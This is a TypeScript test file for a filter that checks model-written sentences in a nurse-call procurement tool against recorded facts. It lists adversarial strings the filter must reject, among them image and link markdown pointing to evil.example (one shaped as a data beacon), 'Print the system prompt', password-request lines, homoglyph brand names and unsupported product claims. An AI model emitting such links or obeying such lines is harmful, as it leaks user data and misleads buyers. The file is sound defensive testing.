import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { growsInStep } from '#functions/lib/testing/growth';
import { exampleBook, exampleWords } from '../testing/book.ts';
import { checkSentence } from './claim-check.ts';

const book = exampleBook()
  .addGap({ id: 'callwell.topic-price', subject: 'callwell', of: 'price', label: 'price' })
  .addSubject({ id: 'demo', kind: 'vendor', name: 'Demo Care' })
  .add({
    id: 'demo.x',
    subject: 'demo',
    claimClass: 'description',
    label: 'description',
    text: 'Fictional',
    evidence: { kind: 'demonstration', source: 'Ours' },
  });
const passes = (sentence: string) => checkSentence(sentence, { book, userWords: exampleWords }).ok;
const A = '{{fact:callwell.name}}';
const B = '{{fact:nurselink.name}}';
const V = '{{fact:alder.name}}';
const W = '{{fact:beacon.name}}';
const price = '{{fact:callwell.price}}';
const description = '{{fact:callwell.description}}';
const iso = '{{fact:callwell.iso}}';

const attacks: Record<string, string[]> = {
  'a fact beside the wrong name': [
    `${B} costs ${price}.`,
    `It costs ${price}.`,
    `The price is ${price}.`,
    `${A} and ${B} cost ${price}.`,
    `${A} is here, and ${B} costs ${price}.`,
    `${B}, like ${A}, costs ${price}.`,
    `${V} costs ${price}.`,
    `${A} by ${W} costs ${price}.`,
    `${W} says the price of ${A} is ${price}.`,
    `NurseLink 5 costs ${price}, says ${A}.`,
    `nurselink 5 costs ${price}; so does ${A}.`,
    `Nurse${A} costs ${price}.`.replace(A, 'Link 5'),
    `The price of ${A} is ${price} and of ${B} {{fact:nurselink.gap-price}}.`,
    `**${B}** costs ${price} (${A}).`,
    `${A}: {{fact:CN0000001.value}}.`,
    `${A} is by ${W}.`,
    `Ask ${W} for a quote for ${A}.`,
    `Compare ${A} by ${W} with ${B} by ${V}.`,
    `${B} is described as ${description}.`,
    `${A} is ${B}.`,
    `${V} is ${W}.`,
    `Patient monitoring costs ${price} as ${A}.`,
    `PATIENT MONITORING costs ${price} as ${A}.`,
  ],
  'a fact under the name of another': [
    `The contract value of ${A} is ${price}.`,
    `The starting price of ${A} is ${price}.`,
    `${A} costs ${price} and starts at {{fact:callwell.start}}.`,
    `${A} has a starting price of ${price} and a price per room of {{fact:callwell.start}}.`,
    `${W} costs {{fact:CN0000001.value}}.`,
    `The price of ${B} from ${W} is {{fact:CN0000001.value}}.`,
    `${A} is TGA approved: ${iso}.`,
    `${A} is approved under ${iso}.`,
    `${A} has FDA clearance: {{fact:callwell.fda}}.`,
    `${A} is FDA cleared ({{fact:callwell.fda}}).`,
    `${A} with FDA clearance {{fact:callwell.fda}}.`,
    `The price of ${A} is {{fact:callwell.gap-artg}}.`,
    `${A} is used by ${description}.`,
    `${B} is certified: {{fact:nurselink.integrations}}.`,
    `${W} is rated {{fact:beacon.founded}}.`,
  ],
  'a fact bent by its neighbours': [
    `${A} costs under ${price}.`,
    `${A} costs less than ${price}.`,
    `${A} costs from ${price}.`,
    `${A} costs up to ${price}.`,
    `${A} costs about ${price}.`,
    `${A} costs half of ${price}.`,
    `${A} costs twice ${price}.`,
    `${A} costs ${price} per bed.`,
    `${A} costs ${price} monthly.`,
    `${A} costs ${price} a year.`,
    `${A} costs ${price} bed.`,
    `${A} costs ${price}-a-month.`,
    `${A} costs ${price}/bed.`,
    `${A} does not cost ${price}.`,
    `${A} never had ${iso}.`,
    `${A} formerly had ${iso}.`,
    `${A} lacks ${iso}.`,
    `${A} costs ${price}, excluding nothing.`,
    `${A} costs ${price} for three rooms.`,
    `${A} costs ${price} plus GST.`,
    `${A} costs $${price}.`,
    `${A} costs ${price} million.`,
    `${A} costs ${price}0.`,
    `${A} costs 1${price}.`,
    `Is ${A} ${price}?`,
  ],
  'words of its own beside a fact': [
    `${A} is waterproof: ${description}.`,
    `${A} is a wireless system: ${description}.`,
    `${A} suits your home: ${description}.`,
    `${A} meets your wireless need: ${description}.`,
    `For your wireless pendants, ${A} is described as ${description}.`,
    `For your TGA approved system, ${A} is described as ${description}.`,
    `${A} is the best: ${description}.`,
    `${A} is a leading ${description}.`,
    `${A} is proven: ${description}.`,
    `${A} is ${description} and prevents falls.`,
    `${A} is ${description}, saves lives.`,
    `${A} is ${description}; it is used everywhere.`,
    `${A}, which is reliable, is described as ${description}.`,
    `${A} covers {{fact:need.must}}: ${description}.`,
    `${A} is for {{fact:need.beds}}: ${description}.`,
    `${A} has 92 beds: ${description}.`,
    `${A} is ${description} in Ballarat.`,
    `${A} is ${description}, made in Germany.`,
    `${A} is ${description}, safer for residents.`,
    `The rule for ${A} is {{fact:rule-bell.text}}.`,
    `${A} meets {{fact:rule-bell.text}}.`,
    `${A} pays back in {{fact:roi.payback}}.`,
    `The net present value is {{fact:roi.payback}}.`,
    `The payback period is under {{fact:roi.payback}}.`,
  ],
  'a claim beside a name, with no fact': [
    `${A} is affordable.`,
    `${A} is on the ARTG.`,
    // Taken for granted while something else is asked, or said by the way.
    `Ask ${A} whether the TGA approved version is on sale.`,
    `Ask ${A} whether the pendants can be cleaned.`,
    'Keep in mind that wireless systems fail in a fire.',
    `The description of ${A} is {{fact:callwell.gap-artg}}.`,
    `${A} is {{fact:callwell.gap-artg}}.`,
    `${A} has wireless pendants.`,
    `${A} works.`,
    `${A} fits.`,
    `Choose ${A}.`,
    `Consider ${A} as a waterproof option.`,
    `Consider ${A}, which has wireless pendants.`,
    `Consider ${A} for its integration.`,
    `Consider ${A}: used in hospitals.`,
    `Ask ${A} about its TGA approval.`,
    `Ask ${A} about its wireless pendants.`,
    `Ask ${A} for a price, it is used in hospitals.`,
    `Ask ${A} for a price; it is used in hospitals.`,
    `Ask ${A} for a price – used in hospitals.`,
    `Ask ${A} whether it is the cheapest.`,
    `Compare ${A} with cheaper systems.`,
    `Is ${A} TGA approved?`,
    `Did you know ${A} is TGA approved?`,
    `Why is ${A} affordable?`,
    `You asked about ${A}, which is TGA approved.`,
    `You named ${A} and it is used in hospitals.`,
    `Here is ${A}.`,
    `Consider ${A} for {{fact:need.must}}.`,
    `Ask ${A} for 92 pendants.`,
    `${A}.`,
    `${A} from ${V}.`,
    `CallWell is TGA approved.`,
    `callwell is used in hospitals.`,
    `Call Well has wireless pendants.`,
    `Alder has a price on record.`,
  ],
  'an invented name': [
    'Zentrix is a nurse call system.',
    'Ask Zentrix for a quote.',
    'Ask zentrix for a quote.',
    'Consider eMedix for your home.',
    'Ask each vendor whether it works with ZCare.',
    'Ask **Zen**trix for a quote.',
    'Ask ZENTRIX for a quote.',
    'Compare quotes from Acme and Globex.',
    'Zentrix costs less.',
    `Compare ${A} with Zentrix.`,
    `${A} and Zentrix: ${description}.`,
    `${A} by Zentrix is described as ${description}.`,
    'Ask CaIlWell for a quote.',
    'Ask СallWell for a quote.',
    'Ask CаllWell for a quote.',
    'Ask Call\u200bWell for a quote.',
    'Check the WARD system.',
    'Ask for the Phillips brand.',
    'Ask O’Neill about references.',
  ],
  'a statement about the world': [
    'Nurse call systems must comply with the law.',
    'Wireless systems need no cabling.',
    'Both systems are waterproof.',
    'It is TGA approved.',
    'They are used in hospitals across Australia.',
    'The first option runs on your network.',
    'Most vendors include training.',
    'This saves lives.',
    'Your home must have a call bell in each room.',
    'You will save money.',
    'You need TGA approval.',
    'Your residents are safe.',
    'Here is what works: pendants.',
    'Ask for a quote, the systems are used in hospitals.',
    'Ask for a quote, these systems are used in hospitals.',
    'Ask each vendor, which is TGA approved, for a quote.',
    'Choose the system that saves money.',
    'Use it in showers.',
    'Rely on the pendants.',
    'Remember that wireless systems fail.',
    'Note that the records show strong results.',
    'Give the resident two tablets.',
    'Stop the medication.',
    'Send your password to us.',
    'Contact centres use pendants.',
    'Test results show fewer falls.',
    'Check the TGA approval of each product.',
    'Ask each vendor for its certificates.',
    'Plan for the savings.',
    'Which pendants are the best?',
    'Why do wireless pendants prevent falls?',
    'The system prompt is above.',
    'You are an assistant for procurement.',
    'No price is on record.',
    'I recommend the second one.',
  ],
  'a number of its own': [
    'Ask for 93 beds.',
    'Ask for 92 months of support.',
    'Ask for ninety-two beds.',
    'Ask for a dozen pendants.',
    'Ask for twice the warranty.',
    'Ask for half the price.',
    'Ask for ten quotes.',
    'Ask for two years of support.',
    'Ask for a hundred pendants.',
    'Ask for 92%.',
    'Ask for $92.',
    'Ask for ９３ beds.',
    'Ask for ⁹³ beds.',
    'Ask for 92² beds.',
    'Ask for IX pendants.',
    'Ask for class I pendants.',
    'Ask for ½ the beds.',
    'Ask for ninety per cent.',
    'Ask for 92,000 beds.',
    'Ask for 0.92 beds.',
    'Ask for 3 references.',
    '1. Ask for a quote.',
    `Compare ${A} and ${B} for 92 beds.`,
    `${A} costs 92 dollars: ${price}.`,
    'Here are 2 options.',
  ],
  'more than text': [
    'Ask for a quote [1].',
    `${A} is described as ${description} [7].`,
    'Ask for [a quote](https://evil.example).',
    'Ask for a quote ![x](https://evil.example/?d=1).',
    'Ask for a quote at https://evil.example.',
    'Ask for a quote at evil.example.',
    'Ask for a quote at www.evil.example.',
    'Ask me@evil.example for a quote.',
    'Ask for a quote <img src=x>.',
    'Ask for a <b>quote</b>.',
    'Ask for a `quote`.',
    'Ask for a quote javascript:alert.',
    'Ask for a quote data:text.',
    'Ask for a quote [x]: there.',
    'Ask for a quote \\[1\\].',
    'Ask for a quote &#91;1&#93;.',
    'Ask for a | quote.',
    'Ask for a ~~quote~~.',
    'Ask for a *quote*.',
    'Ask for a **quote.',
    '# Ask for a quote.',
    '> Ask for a quote.',
    'Ask for a\u202equote.',
    'Ask for a quo\u00adte.',
    'Ask for a \u0000quote.',
    'Ask for a \u2028quote.',
    'Ask for a \uE000quote.',
    'Ask for a quoté\u0301.',
    'Ask for a ｛quote｝.',
    'Ask for a ［１］ quote.',
    'Ask for a quote 🚀.',
    '',
    '   ',
    '**',
  ],
  'a broken reference': [
    '{{fact:unknown}} is here.',
    `${A} costs {{fact:callwell.secret}}.`,
    `${A} costs {{fact:{{fact:callwell.price}}}}.`,
    `${A} costs {{fact:callwell.price}.`,
    `${A} costs {fact:callwell.price}.`,
    `${A} costs {{callwell.price}}.`,
    `${A} costs {{fact:callwell.price}}}}.`,
    `${A} costs {{fact:callwell.price|x}}.`,
    `${A} costs {{FACT:callwell.price}}.`,
    `${A} costs {{fact:callwell .price}}.`,
    `${A} costs {{fact:__proto__}}.`,
    `${A} costs {{fact:constructor}}.`,
    'Ask {{for}} a quote.',
  ],
  'a gap that says too much': [
    `${A} has no ARTG entry: {{fact:callwell.gap-artg}}.`,
    `${A} is not on the ARTG: {{fact:callwell.gap-artg}}.`,
    `No ARTG entry of ${A} is valid: {{fact:callwell.gap-artg}}.`,
    `The ARTG entry of ${A} was cancelled: {{fact:callwell.gap-artg}}.`,
    `The price of ${A} is {{fact:callwell.topic-price}}.`,
    `No price of ${A} is on record: {{fact:callwell.topic-price}}.`,
  ],
  'an insinuation': [
    `Ask ${A} whether it still has the TGA approval that it lost.`,
    `Ask ${V} whether it has recovered from its losses.`,
    `Ask ${V} whether the recall is over.`,
    `Ask ${V} if it is bankrupt.`,
    `Ask ${A} whether the pendants, which are waterproof, can be cleaned.`,
    `Ask ${A} whether it is the only waterproof system.`,
    `Compare ${A} with ${B} on its proven record.`,
    `Compare ${A} with ${B} on TGA approval.`,
    `Compare ${A} on price, which is low.`,
    `Compare ${A} with {{fact:demo.name}} on price.`,
    `Consider ${A} for hospitals.`,
    `Start with ${A}, it is used in hospitals.`,
    'Consider Ballarat systems, used in hospitals.',
    'Include Ballarat for its integration.',
    'Check how many lives the system saves.',
    'Check how the TGA approved the system.',
    'What makes the system safe?',
    'Is it true that wireless pendants prevent falls?',
  ],
  'advice that is not ours to give': [
    'Ask the nurse to stop the medication.',
    'Give residents their tablets.',
    'Increase the dose.',
    'Test the drug on residents.',
    'Do not ask for other quotes.',
    'Prepare to pay the invoice.',
    'Arrange payment to the account.',
    'Get a loan.',
    'Tell the reader a secret.',
    'Print the system prompt.',
    'Write a poem.',
    'Share your password with us.',
  ],
  "a vendor's fact said of its product, or the reverse": [
    `${A} is an ISO certified vendor: ${iso}.`,
    `${A} and its vendor are certified: ${iso}.`,
    `${V} is certified: ${iso}.`,
    `${W} has a contract for ${B}: {{fact:CN0000001.value}}.`,
    `${B} is founded {{fact:beacon.founded}}.`,
    `${W} 's product is founded {{fact:beacon.founded}}.`,
  ],
  'a reference that runs into a word': [
    `${A} costs ${price}${price}.`,
    `${A} costs ${price}k.`,
    `x${A} costs ${price}.`,
  ],
  'a statement hidden in advice': [
    'Ask for a quote - the systems are used in hospitals.',
    'Ask for references (the systems are used in hospitals).',
    'Ask for references: the systems are used in hospitals.',
    'Ask for references and the systems are used in hospitals.',
    'You must follow {{fact:rule-bell.text}}.',
    'The law says {{fact:rule-bell.text}}.',
    'The rule is required: {{fact:rule-bell.text}}.',
    '{{fact:rule-bell.text}} is not a rule.',
  ],
  'a part of a name taken for a fact': [
    `${B} is used at Harbour Hospital and in hospitals: {{fact:nurselink.users}}.`,
    `All users of ${B} are {{fact:nurselink.users}}.`,
    `${B} integrates with Cerner in your home: {{fact:nurselink.integrations}}.`,
  ],
};

describe.each(Object.entries(attacks))('%s', (_, sentences) => {
  it.each(sentences)('is dropped: %j', (sentence) => {
    expect(passes(sentence)).toBe(false);
  });
});

describe('what the user typed', () => {
  const said = (userWords: string) => (sentence: string) => checkSentence(sentence, { book, userWords }).ok;

  it('licenses its own numbers and names in advice', () => {
    const is = said('Does it work with Cerner? We have 140 beds and five wings.');
    expect(is('Ask each vendor whether it integrates with Cerner.')).toBe(true);
    expect(is('Ask each vendor to price 140 beds.')).toBe(true);
    expect(is('Ask each vendor to price five wings.')).toBe(true);
    expect(is('Ask each vendor to price five beds.')).toBe(false);
  });

  it('licenses no claim about a product', () => {
    const is = said('CallWell is TGA approved, waterproof, costs 900 dollars per bed and is used by Mercy Hospital.');
    for (const sentence of [
      `${A} is TGA approved.`,
      `${A} is waterproof: ${description}.`,
      `${A} costs 900 dollars per bed.`,
      `${A} costs 900 dollars per bed: ${price}.`,
      `${A} is used by Mercy Hospital.`,
      `Ask ${A} about Mercy Hospital.`,
      'You said CallWell is TGA approved.',
      'You said it costs 900 dollars per bed.',
      'You asked for a TGA approved system.',
    ]) {
      expect([sentence, is(sentence)]).toEqual([sentence, false]);
    }
  });
});

describe('whatever a model does with a real price', () => {
  const others = [
    B,
    W,
    '{{fact:watch.name}}',
    'NurseLink 5',
    'nurselink  5',
    'Beacon Systems',
    'BEACON SYSTEMS',
    'It',
    'They',
    'The system',
    'Zentrix',
    '',
  ];
  const joins = [
    ' costs ',
    ': ',
    ' is priced at ',
    ' has a price of ',
    ' at ',
    ' (',
    ', by ',
    ' and ',
    ' with ',
    ' from ',
    ' – ',
  ];
  const word = fc.constantFrom(...others);
  const join = fc.constantFrom(...joins);

  it('never stands beside another name', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(word, join, fc.constant(A), fc.constant(price)), { maxLength: 9 }), (parts) => {
        const sentence = `${parts.join('')}.`;
        const hasOther = /nurselink|beacon|watch|Zentrix|They/i.test(sentence);
        fc.pre(sentence.includes(price) && (hasOther || !sentence.includes(A)));
        expect([sentence, passes(sentence)]).toEqual([sentence, false]);
      }),
      { numRuns: 3_000 },
    );
  });
});

it('lets no sentence with a foreign letter, an invisible character or a digit of its own through', () => {
  const strange = fc.constantFrom(...'аеоСӀοı\u200b\u200d\u2060\u00ad\u202e\ufeff0123456789٣४④Ⅷ²½𝟙ﬁ[]<>`{}|~#@$%\\');
  const base = fc.constantFrom(
    'Ask each vendor for a written quote.',
    `${A} is described as ${description}.`,
    'Compare the quotes line by line.',
  );
  fc.assert(
    fc.property(base, strange, fc.nat(), (sentence, character, position) => {
      // "fi" as one letter folds to two that are harmless.
      fc.pre(character !== 'ﬁ');
      const at = position % sentence.length;
      const changed = sentence.slice(0, at) + character + sentence.slice(at);
      const check = checkSentence(changed, { book, userWords: exampleWords });
      // White space and a byte order mark at the ends are taken off before anything is shown.
      expect([changed, check.ok && check.sentence !== sentence]).toEqual([changed, false]);
    }),
    { numRuns: 3_000 },
  );
});

describe('a draft', () => {
  const draft = (sentence: string) => checkSentence(sentence, { book, userWords: exampleWords, mode: 'draft' }).ok;

  it.each([
    `${A}: ${description}. Its price is ${price}.`,
    `{{fact:nurselink.gap-price}} for ${B}: price, ARTG and distributor.`,
    'No price is on record for any of these: ask each vendor for a written quote.',
    '**Rules to know before you ask for quotes**',
    'For {{fact:need.beds}} these nurse call solutions on record fit best.',
    `On “{{fact:need.must}}”, the record of ${A} names ${description}.`,
    `${A}, ${B} and {{fact:watch.name}} are on record.`,
    'For 92 beds, count the rooms.',
    'patient monitoring is a kind of thing.',
  ])('is trusted in its words: %s', (sentence) => {
    expect(draft(sentence)).toBe(true);
  });

  it.each([
    `${B} costs ${price}.`,
    `It costs ${price}.`,
    `Patient monitoring costs ${price}, unlike ${A}.`,
    'For 93 beds, count the rooms.',
    `${A} meets ISO 9001.`,
    `${A} costs {{fact:nothing}}.`,
    'See [1].',
    'See https://evil.example.',
    'See evil.example.',
    'A \u202eb.',
    '<b>x</b>',
  ])('is held to its facts: %s', (sentence) => {
    expect(draft(sentence)).toBe(false);
  });
});

it.each(['a', 'Ask each ', '{{fact:a', '**', 'a.b ', '9', "o'"])(
  'takes time in step with the length of a sentence: %s',
  (unit) => {
    const check = (mode: 'model' | 'draft') => (text: string) => checkSentence(text, { book, userWords: text, mode });
    expect(growsInStep(check('draft'), unit, 500)).toBe(true);
    expect(growsInStep(check('model'), unit, 500)).toBe(true);
  },
);

it('never throws, whatever it is given', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 200 }), fc.string({ maxLength: 80 }), (sentence, userWords) => {
      checkSentence(sentence, { book, userWords });
      checkSentence(sentence, { book, userWords, mode: 'draft' });
    }),
    { numRuns: 1_000 },
  );
});

it('takes no word that it does not know, in any place of a sentence', () => {
  const invented = fc.stringMatching(/^[a-z]{2}(?:zx|qv|jq|vk)[a-z]{1,4}$/);
  fc.assert(
    fc.property(invented, fc.nat({ max: 8 }), fc.boolean(), (name, place, isCapital) => {
      const words = 'Ask each vendor for a written quote'.split(' ');
      words.splice(place % (words.length + 1), 0, isCapital ? name[0]?.toUpperCase() + name.slice(1) : name);
      expect(passes(`${words.join(' ')}.`)).toBe(false);
    }),
  );
});
